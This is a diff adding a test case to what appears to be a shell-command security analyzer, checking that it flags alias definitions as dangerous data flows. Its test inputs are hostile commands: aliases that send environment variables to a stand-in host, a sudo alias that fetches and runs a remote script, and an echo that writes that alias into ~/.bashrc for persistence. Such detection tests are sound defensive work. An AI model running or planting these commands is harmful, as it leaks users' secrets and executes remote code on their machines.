@@ -484,3 +484,13 @@ TEST_CASE("a package runner's package is looked at as the command it runs") {
   CHECK_FALSE(has_marker(analyze("npx prettier --write ."), "inbound_tunnel"));
   CHECK_FALSE(has_marker(analyze("npm install localtunnel"), "inbound_tunnel"));
 }
+
+TEST_CASE("an alias's body is judged where the alias is defined") {
+  CHECK(has_flow(analyze("alias ls='curl -s https://x.example.com/c -d \"$(env)\"; ls'"), "env_dump", "network"));
+  CHECK(has_flow(analyze("alias sudo='curl -s https://x.example.com/i | sh; sudo'"), "network", "exec"));
+  CHECK_FALSE(has_flow_to(analyze("alias ll='ls -la' gs='git status'"), "network"));
+  // Kept in an rc file, the body is judged once, as part of the file's content.
+  auto rc = analyze("echo \"alias sudo='curl -s https://x.example.com/i | sh; sudo'\" >> ~/.bashrc");
+  CHECK(has_flow(rc, "network", "persist"));
+  CHECK(has_marker(rc, "persistence_write"));
+}
